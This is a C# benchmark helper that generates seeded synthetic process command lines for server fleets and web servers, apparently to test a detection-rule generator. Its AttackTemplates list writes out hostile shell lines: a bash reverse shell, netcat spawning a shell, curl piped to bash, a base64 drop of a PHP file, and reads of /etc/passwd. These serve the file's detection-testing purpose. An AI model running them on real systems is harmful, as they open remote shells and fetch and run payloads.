namespace RuleGen.Benchmarks;

/// <summary>Made-up command lines, the same for the same seed.</summary>
internal sealed class CommandLines(int seed)
{
    private static readonly string[] FleetTemplates =
    [
        "/usr/bin/python3 /opt/{w}/{w}/{w}.py --interval {n} --output /var/lib/{w}/{w}.json",
        "/usr/sbin/cron -f",
        "/bin/sh -c /usr/local/bin/{w}-{w} --quiet >/dev/null 2>&1",
        "sh -c cd /srv/{w} && ./{w}.sh {n}",
        "/usr/bin/kubelet --config=/var/lib/{w}/config.yaml --node-ip=10.{b}.{b}.{b} --v={n} --root-dir=/data/{w}",
        "/usr/bin/containerd-shim-runc-v2 -namespace moby -id {h}{h} -address /var/lib/containerd/{w}.sock",
        "runc --root /var/lib/runtime --log-format json exec --process /data/process-{n} --detach {h}{h}",
        "java -Xmx{n}m -cp /opt/{w}/lib/{w}-{n}.jar:/opt/{w}/conf com.{w}.{w}.Main --port {n}",
        "git -C /home/{w}/src/{w} fetch --all --prune",
        "gcc -O2 -g -Wall -I/usr/include/{w} -c {w}.c -o build/{w}.o -MMD -MF build/{w}.d",
        "ssh -o BatchMode=yes -o ConnectTimeout={n} {w}@{w}.example.net",
        "rsync -az --delete /srv/{w}/ {w}.example.net:/srv/{w}/",
        "grep -rn {w} /var/log/{w}/{w}.log",
        "ls -l /var/lib/{w}",
        "sleep {n}",
        "date +%s",
        "/usr/lib/systemd/systemd-{w} --user {n}",
        "/usr/bin/dpkg-query --show --showformat=${Package}_{w} {w}",
        "apt-get install -y --no-install-recommends {w} lib{w}-dev",
        "node /srv/{w}/server/{w}.js --port={n} --env=production",
        "postgres: {w} {w} 10.{b}.{b}.{b}({n}) idle",
        "/usr/bin/docker ps --filter name={w} --format {{.Names}}",
        "bash /opt/{w}/bin/{w}.sh --host {w}{n}.example.net --retries {n}",
        "sed -i s/{w}/{w}/ /srv/{w}/{w}.conf",
        "awk -F: {{print $1}} /srv/{w}/{w}.csv",
        "curl -s -o /srv/{w}/{w}.json https://{w}.example.net/api/v{n}/{w}",
        "tar czf /backup/{w}-{n}.tgz /srv/{w}",
        "/usr/bin/bash -c {w}ctl status {w} | tail -n {n}",
        "sh -c ps -ef | grep {w}",
        "/usr/sbin/logrotate /srv/{w}/logrotate.conf --state /var/lib/logrotate/{w}",
        "make -j{n} -C /home/{w}/src/{w} all",
        "systemctl is-active {w}.service",
        "/usr/bin/find /srv/{w} -name {w} -mtime +{n}",
        "/usr/bin/env PATH=/opt/{w}/bin:/usr/bin {w} --{w} {n}",
        "/lib/systemd/systemd-udevd",
        "python3 -m {w}.{w} --config /srv/{w}.toml --workers {n}",
        "/snap/{w}/{n}/usr/bin/{w} --{w}={w} --type=renderer --lang=en-GB --field-trial-handle={n},{n}",
        "chown {w}:{w} /srv/{w}/{w}",
        "/usr/bin/perl /usr/share/{w}/{w}.pl {h}",
    ];

    private static readonly string[] WebTemplates =
    [
        "sh -c convert /srv/www/{w}/{h}.png -resize {n}x{n} /srv/www/{w}/t.png",
        "sh -c /usr/bin/{w} --version",
        "sh -c {w} -i {w}.mp4 -q {n} out.mp4",
        "sh -c /usr/sbin/sendmail -t -i",
        "bash -c cd /srv/www/{w} && php artisan schedule:run",
        "sh -c ps aux | grep {w} | wc -l",
        "sh -c which {w}",
        "sh -c stat -c %s /srv/www/{w}/{h}.dat",
        "sh -c df -h /srv",
        "sh -c git rev-parse --short HEAD",
        "bash -c /opt/{w}/bin/{w} --report {n} > /srv/{w}/{h}.txt",
        "sh -c identify -format %wx%h /srv/www/{w}/{h}.jpg",
        "sh -c /usr/bin/python3 /srv/{w}/{w}.py {n}",
        "sh -c zip -r /srv/{w}/{h}.zip {w}",
        "sh -c uptime",
        "sh -c echo {w}",
        "sh -c cd /srv/{w}; nice -n {n} ./{w} --once",
        "sh -c mysqldump --databases {w} --result-file={w}.sql",
        "sh -c {w} --host={w}.example.net --port={n} --ssl",
    ];

    private static readonly string[] AttackTemplates =
    [
        "sh -c cat /etc/passwd", "sh -c curl -s http://10.{b}.{b}.{b}/{w} | bash",
        "bash -c bash -i >& /dev/tcp/10.{b}.{b}.{b}/{n} 0>&1",
        "sh -c nc 10.{b}.{b}.{b} {n} -e /bin/sh", "sh -c echo {h} | base64 -d > {w}.php",
        "sh -c chmod +x /var/tmp/{w}", "sh -c wget -q transfer.sh/{w}",
    ];

    private static readonly string[] Syllables =
    [
        "ba", "cor", "den", "fi", "gra", "hel", "in", "jo", "kal", "lo", "mer", "na", "or", "pro", "qua", "ri", "ser", "ta", "ul", "ver",
        "web", "xi", "data", "log", "sync", "net", "cache", "app",
    ];

    private static readonly string[] ShellPrograms =
    [
        "/bin/sh -c /usr/local/bin/{w}-{w} --quiet --lock /run/lock/{w}.lock --spool /var/spool/{w} >/dev/null 2>&1",
        "sh -c cd /srv/{w} && ./{w}.sh {n} --config /srv/{w}/conf/{w}.yaml --log /var/log/{w}.log",
        "/usr/bin/bash -c {w}ctl status {w} --output json --timeout {n} --context {w} | tail -n {n}",
        "sh -c test -x /usr/sbin/{w} && /usr/sbin/{w} --report /etc/{w}/{w}.conf --since {n} --mail {w}",
        "/bin/bash -c set -euo pipefail; cd /builds/{w}/{w}; make -j{n} {w}; ./{w} --junit out/{w}.xml",
        "/bin/sh -c command -v {w} > /dev/null && cd / && run-parts --report /etc/{w}.hourly",
        "/bin/dash -c exec /opt/{w}/bin/{w} --probe readiness --port {n} --timeout {n}",
    ];

    private static readonly string[] ShellScripts =
    [
        "bash /opt/{w}/bin/{w}.sh --host {w}{n}.example.net --retries {n}",
        "/bin/sh /usr/lib/{w}/{w}-hook start {n}", "-bash", "/usr/bin/zsh -l", "/bin/sh /etc/{w}.daily/{w}",
    ];

    private static readonly string[] LongPrograms =
    [
        "/usr/bin/node_exporter --collector.systemd --collector.textfile.directory=/var/lib/{w}/{w} --web.listen-address=10.{b}.{b}.{b}:{n} --log.level=warn",
        "/usr/libexec/gcc/x86_64-linux-gnu/13/cc1 -quiet -I include/{w} -D {w}={n} {w}.c -dumpbase {w}.c -mtune=generic -O2 -Wall -o {h}.s",
        "/usr/bin/qemu-system-x86_64 -name guest={w} -machine q35 -m {n} -smp {b} -drive file=/var/lib/images/{w}.qcow2,if=virtio -display none",
        "/usr/lib/jvm/java-17/bin/java -Xmx{n}m -XX:+UseG1GC -cp /opt/{w}/lib/{w}.jar:/opt/{w}/lib/{w}.jar com.{w}.{w}.Worker --queue {w}",
    ];

    private static readonly string[] LongWebTemplates =
    [
        "sh -c /usr/bin/convert '/srv/www/{w}/uploads/{h}.jpg' -auto-orient -strip -quality {b} '/srv/www/{w}/thumbs/{h}.webp'",
        "sh -c cd /srv/www/{w}/releases/{n} && /usr/bin/node_modules/.bin/{w} --mode production --report {w}.json",
    ];

    private static readonly string[] Programs =
        [.. LongPrograms, .. FleetTemplates.Where(t => !ShellScripts.Contains(t) && !t.StartsWith("sh -c", StringComparison.Ordinal) && !t.Contains("sh -c ", StringComparison.Ordinal))];

    private readonly Random _random = new(seed);

    /// <summary>What a mixed fleet starts: 0.1 % attacks.</summary>
    public string[] Fleet(int count) => Make(count, FleetTemplates, 0.001);

    /// <summary>What the shells of web servers start: 2 % attacks.</summary>
    public string[] Web(int count) => Make(count, WebTemplates, 0.02);

    /// <summary>A shell with an inline program, as fleets start it.</summary>
    public string ShellProgram() => Fill(Pick(ShellPrograms));

    /// <summary>A shell that runs a script or waits for somebody at a keyboard.</summary>
    public string ShellScript() => Fill(Pick(ShellScripts));

    /// <summary>Any other program.</summary>
    public string Program() => Fill(Pick(Programs));

    /// <summary>A shell of a web server, at work.</summary>
    public string WebShell() => Fill(Pick(_random.Next(20) == 0 ? LongWebTemplates : WebTemplates));

    /// <summary>A shell of a web server, under attack.</summary>
    public string Attack() => Fill(Pick(AttackTemplates));

    /// <summary>Fills a template: <c>{w}</c> a word, <c>{n}</c> a number, <c>{b}</c> a number up to 255, <c>{h}</c> hexadecimal digits.</summary>
    public string Fill(string template)
    {
        var line = new System.Text.StringBuilder();
        for (int i = 0; i < template.Length; i++)
        {
            if (template[i] != '{' || i + 2 >= template.Length || template[i + 2] != '}')
            {
                line.Append(template[i]);
                continue;
            }

            line.Append(template[i + 1] switch
            {
                'w' => Word(),
                'n' => _random.Next(1, 9999).ToString(System.Globalization.CultureInfo.InvariantCulture),
                'b' => _random.Next(0, 256).ToString(System.Globalization.CultureInfo.InvariantCulture),
                _ => _random.Next().ToString("x8", System.Globalization.CultureInfo.InvariantCulture),
            });
            i += 2;
        }

        return line.ToString();
    }

    private string[] Make(int count, string[] templates, double attackShare)
    {
        var lines = new string[count];
        for (int i = 0; i < count; i++)
            lines[i] = Fill(Pick(_random.NextDouble() < attackShare ? AttackTemplates : templates));
        return lines;
    }

    private string Word()
    {
        string word = Pick(Syllables);
        for (int more = _random.Next(1, 5); more > 0; more--)
            word += Pick(Syllables);
        return word;
    }

    private string Pick(string[] choices) => choices[_random.Next(choices.Length)];
}
